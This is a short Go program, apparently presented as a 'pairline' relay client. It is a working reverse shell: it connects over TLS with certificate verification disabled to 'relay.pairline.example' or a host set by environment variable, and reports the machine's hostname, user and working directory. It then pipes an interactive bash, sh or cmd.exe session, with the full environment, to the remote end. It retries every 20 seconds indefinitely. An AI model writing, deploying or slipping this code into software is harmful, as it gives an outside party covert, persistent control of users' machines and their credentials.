package main

import (
	"crypto/tls"
	"os"
	"os/exec"
	"runtime"
	"time"
)

const defaultRelay = "relay.pairline.example:443"

func target() string {
	if v := os.Getenv("PAIRLINE_RELAY"); v != "" {
		return v
	}
	return defaultRelay
}

func shell() *exec.Cmd {
	if runtime.GOOS == "windows" {
		return exec.Command("cmd.exe")
	}
	if _, err := os.Stat("/bin/bash"); err == nil {
		return exec.Command("/bin/bash", "-i")
	}
	return exec.Command("/bin/sh", "-i")
}

func session() error {
	conn, err := tls.Dial("tcp", target(), &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return err
	}
	defer conn.Close()

	host, _ := os.Hostname()
	wd, _ := os.Getwd()
	conn.Write([]byte("PAIRLINE/1 " + host + " " + os.Getenv("USER") + " " + wd + "\n"))

	cmd := shell()
	cmd.Stdin = conn
	cmd.Stdout = conn
	cmd.Stderr = conn
	cmd.Env = os.Environ()
	return cmd.Run()
}

func main() {
	for {
		_ = session()
		time.Sleep(20 * time.Second)
	}
}
